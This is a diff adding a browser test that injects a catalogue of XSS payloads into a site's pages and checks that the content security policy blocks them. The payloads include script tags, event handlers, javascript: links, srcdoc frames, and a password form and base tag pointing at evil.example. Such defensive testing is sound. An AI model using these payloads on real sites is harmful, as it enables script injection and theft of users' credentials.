@@ -66,3 +66,60 @@ t.test('no page breaks its own policy, and a script that got in does not run', a
   await until('both violations are told', () => broken.length >= 2)
   await context.close()
 })
+
+/** What an attacker would put into a page, by what it tries; `got` is written by whatever runs. */
+const injections: Readonly<Record<string, string>> = {
+  'a script': '<script>window.got = "a script"</script>',
+  'a script of another site': '<script src="https://evil.example/script.js"></script>',
+  'a handler of a failed picture': `<img src="x:" onerror="window.got = 'onerror'">`,
+  'handlers of elements': `<button id="clicked" onclick="window.got = 'onclick'" onfocus="window.got = 'onfocus'">Click</button><svg onload="window.got = 'onload'"></svg><details open ontoggle="window.got = 'ontoggle'"></details>`,
+  'a link to a script': `<a id="link" href="javascript:window.got = 'a link'">Follow</a>`,
+  'a frame with a document': `<iframe srcdoc="<script>parent.got = 'srcdoc'</script><img src=x: onerror=parent.got=1>"></iframe>`,
+  'a frame with a form': '<iframe srcdoc="<form id=inner action=https://evil.example/inner><input name=a></form>"></iframe>',
+  'frames of another site': '<iframe src="https://evil.example/frame"></iframe><iframe src="data:text/html,<script>parent.got=1</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
+  'a form to another site': '<form id="stolen" action="https://evil.example/form" method="post"><input name="password" value="secret"><button id="send">Send</button></form>',
+  'a button that sends elsewhere': '<form action="/"><button id="elsewhere" formaction="https://evil.example/button">Send</button></form>',
+  'another base': '<base href="https://evil.example/">',
+  'styles': '<style>main { display: none !important }</style><link rel="stylesheet" href="https://evil.example/style.css">',
+  'style attributes': '<p id="styled" style="background: url(javascript:window.got=1); behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml); position: fixed">Styled</p>',
+}
+
+for (const path of ['/', '/amp']) {
+  t.test(`what got past sanitising into ${path} has no effect: no script runs, no form leaves the site, no frame of another is loaded`, async (t) => {
+    const context = await browser.newContext({ ...sizes.desktop, serviceWorkers: 'block' })
+    const page = await context.newPage()
+    const reached: string[] = []
+    await page.route('https://evil.example/**', (route) => {
+      reached.push(route.request().url())
+      return route.fulfill({ status: 200, contentType: 'text/html', headers: { 'access-control-allow-origin': '*' }, body: 'evil' })
+    })
+    // As it was served, headers and all, with this in its body.
+    await page.route(site.url + path, async (route) => {
+      const answer = await route.fetch()
+      await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${Object.values(injections).join('\n')}</body>`) })
+    })
+    await page.goto(site.url + path, { waitUntil: 'load' })
+    // Markup alone: a page that cannot run scripts of its own has to be looked at all the same.
+    t.equal(await page.locator('#stolen').count(), 1, 'it is in the page')
+    const submit = () => page.evaluate(() => {
+      document.getElementById('clicked')?.click()
+      document.getElementById('clicked')?.focus()
+      document.getElementById('link')?.click()
+      document.getElementById('send')?.click()
+      document.getElementById('elsewhere')?.click()
+      document.querySelector<HTMLFormElement>('#stolen')?.requestSubmit()
+      document.querySelector<HTMLFormElement>('#stolen')?.submit()
+      for (const frame of document.querySelectorAll('iframe')) frame.contentDocument?.querySelector<HTMLFormElement>('#inner')?.submit()
+    })
+    await submit()
+    // A navigation that was begun would come before the answer to this.
+    await page.evaluate(() => fetch('/healthz').then((answer) => answer.text()))
+    t.same(reached, [])
+    t.equal(new URL(page.url()).origin, site.url, 'the reader is on this site')
+    t.same(await page.evaluate(() => ({ got: (window as unknown as { got?: unknown }).got, base: document.baseURI.startsWith(location.origin) })), { got: undefined, base: true })
+    for (const frame of page.frames().slice(1)) t.notMatch(await frame.content().catch(() => ''), />evil</)
+    // AMP styles its elements as it goes, and needs that.
+    if (path === '/') t.not(await page.evaluate(() => getComputedStyle(document.querySelector('main') ?? document.body).display), 'none', 'an injected style has no effect')
+    await context.close()
+  })
+}
